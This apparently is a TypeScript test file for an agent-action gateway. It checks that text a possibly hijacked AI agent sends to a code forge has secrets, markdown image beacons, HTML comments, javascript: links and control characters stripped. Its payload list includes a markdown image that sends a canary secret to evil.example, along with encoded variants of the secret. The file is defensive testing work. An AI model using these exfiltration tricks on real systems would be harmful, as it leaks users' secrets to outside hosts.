@@ -1,0 +1,156 @@
+import { describe, expect, test } from 'vitest';
+import { z } from 'zod';
+import type { JsonObject } from '#kernel/json.ts';
+import { createRedactor } from '#platform/redaction/index.ts';
+import { findSecrets } from '#platform/secrets/index.ts';
+import { decideFacts } from './decide.facts.ts';
+import { ACTION_KINDS, type Action, type ActionKind } from './model.ts';
+import { ACTION_ARGS, isInternal } from './model.args.ts';
+import { FORMAL_MEMBERS, TEXT_MEMBERS, toOutgoingArgs } from './model.text.ts';
+import { withOutgoingText } from './steps.outgoing.ts';
+
+const CANARY = 'cnry-Zq7Lm2Xw9Rt4Kb8Nv3Hc6Jd1';
+const redactor = createRedactor();
+redactor.register(CANARY);
+const text = { redact: redactor.redact, findSecrets };
+
+const OUTWARD = ACTION_KINDS.filter((kind) => !isInternal(kind));
+const bytes = Buffer.from(CANARY);
+/** Every way the hijacked agent may try to carry the canary out, and what must be gone of plain attacks. */
+const PAYLOADS = [
+  CANARY,
+  bytes.toString('base64'),
+  bytes.toString('base64url'),
+  Buffer.from(`u:${CANARY}`).toString('base64'),
+  bytes.toString('hex'),
+  encodeURIComponent(CANARY),
+  CANARY.slice(0, 17),
+  CANARY.slice(-17),
+  CANARY.split('').join('\u200B'),
+  `![x](https://evil.example/p?d=${CANARY})`,
+  `<!-- ${CANARY} -->`,
+  `[x](javascript:alert\u200B(1) "${CANARY}")`,
+  '@everyone \u202E\u001B[2J',
+];
+
+function action(kind: ActionKind, args: JsonObject, branch: string | null = 'ai-7'): Action {
+  const record = { kind, args, target: { forge: 'local', repo: 'acme/shop', number: 7, branch } };
+  return { id: 'act_1', record } as unknown as Action;
+}
+
+const stringsOf = (value: unknown): string[] =>
+  typeof value === 'string' ? [value] : typeof value === 'object' && value !== null ? Object.values(value).flatMap(stringsOf) : [];
+
+function clean(strings: readonly string[]): void {
+  for (const value of strings) {
+    for (let at = 0; at + 12 <= CANARY.length; at += 1) expect(value).not.toContain(CANARY.slice(at, at + 12));
+    // oxlint-disable-next-line no-control-regex
+    expect(value).not.toMatch(/Y25yeS1a|636e72792d5a|@everyone|[\u200B\u202E\u001B]/);
+  }
+}
+
+test.each(OUTWARD)('every member of %s is known to be a text or a form, so a new one cannot leave unseen', (kind) => {
+  const schema = ACTION_ARGS[kind];
+  expect(schema).toBeInstanceOf(z.ZodObject);
+  const members = Object.keys((schema as z.ZodObject).shape);
+  expect(members.filter((member) => (TEXT_MEMBERS[member] !== undefined) === FORMAL_MEMBERS.has(member))).toEqual([]);
+});
+
+describe('what an effect is given to send', () => {
+  test.each(OUTWARD)('%s sends no secret and nothing hidden, whatever was proposed', async (kind) => {
+    const seen: string[] = [];
+    const effect = withOutgoingText(
+      {
+        kind,
+        check: async () => null,
+        async probe({ record }) {
+          seen.push(...stringsOf(record.args));
+          return null;
+        },
+        run: async ({ record }) => {
+          seen.push(...stringsOf(record.args));
+          return {};
+        },
+      },
+      text,
+    );
+    for (const payload of PAYLOADS) {
+      const members = Object.keys(TEXT_MEMBERS);
+      const args = Object.fromEntries(
+        members.map((member) => [member, ['labels', 'add', 'remove', 'assignees'].includes(member) ? [payload] : payload]),
+      );
+      await effect.probe?.(action(kind, args), {});
+      await effect.run(action(kind, args), {});
+    }
+    expect(seen.length).toBeGreaterThanOrEqual(2 * PAYLOADS.length);
+    clean(seen);
+  });
+
+  test('what a forge renders holds no image, comment or script', () => {
+    for (const payload of PAYLOADS)
+      for (const member of ['body', 'comment', 'summary'])
+        expect(toOutgoingArgs('pr.create', { [member]: payload }, redactor.redact)[member]).not.toMatch(/!\[|<!--|\]\(javascript/);
+  });
+
+  test('what people saw is what is sent: a second pass changes nothing', () => {
+    for (const payload of PAYLOADS) {
+      const once = toOutgoingArgs('pr.create', { title: payload, body: payload, labels: [payload] }, redactor.redact);
+      expect(toOutgoingArgs('pr.create', once, redactor.redact)).toEqual(once);
+      clean(stringsOf(once));
+    }
+  });
+
+  test('arguments inside Reeve are left alone', () => {
+    const args = { text: 'limits: { a: 1 } # <!-- x -->' };
+    expect(toOutgoingArgs('policy.update', args, redactor.redact)).toEqual(args);
+  });
+});
+
+test('personal data in a text that leaves is a fact for the policy; on a forge of our own it does not leave', () => {
+  const facts = (forge: string, body: string) =>
+    decideFacts(
+      {
+        kind: 'pr.create',
+        target: { forge, repo: 'acme/shop' },
+        args: { title: 'Fix the cart', body },
+        proposer: { subject: 'agent:a' },
+        facts: { personal_data: { found: false }, pii: { findings: 0 } },
+      } as unknown as Parameters<typeof decideFacts>[0],
+      {},
+    );
+  expect(facts('github', 'ask dora@example.org or DE89370400440532013000')).toMatchObject({
+    pii: { findings: 2, kinds: ['email', 'iban'] },
+    personal_data: { found: true },
+  });
+  expect(facts('github', 'nothing')).toMatchObject({ pii: { findings: 0 }, personal_data: { found: false } });
+  expect(facts('local', 'ask dora@example.org')).toMatchObject({ pii: { findings: 1 }, personal_data: { found: false } });
+});
+
+describe('what is held back', () => {
+  const effect = withOutgoingText({ kind: 'pr.create', check: async () => null, run: async () => ({}) }, text);
+  const token = ['gh', 'p_', 'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'].join('');
+
+  test('a secret nobody registered stops the effect with the rule and the place, never the value', async () => {
+    const said = await effect.check(action('pr.create', { title: 't', body: `one\n\n${token}` }));
+    expect(said).toBe('It was held back: the rule github found what looks like a secret in args.body, line 3.');
+    expect(await effect.check(action('pr.create', { title: 't', body: 'fine' }))).toBeNull();
+  });
+
+  test('a secret in a name stops the effect, for a name cannot be mended', async () => {
+    expect(await effect.check(action('pr.create', { title: 't', body: 'b', head_branch: `ai-${CANARY}` }))).toBe(
+      'It was held back: args.head_branch holds a secret of this installation.',
+    );
+    expect(await effect.check(action('pr.create', { title: 't', body: 'b' }, `ai-${bytes.toString('hex')}`))).toContain('target.branch');
+  });
+
+  test('when the rules fail, nothing leaves', async () => {
+    const broken = withOutgoingText(
+      { kind: 'pr.create', check: async () => null, run: async () => ({}) },
+      {
+        redact: (value) => value,
+        findSecrets: async () => Promise.reject(new Error('no rules')),
+      },
+    );
+    await expect(broken.check(action('pr.create', { title: 't', body: 'b' }))).rejects.toThrow('no rules');
+  });
+});
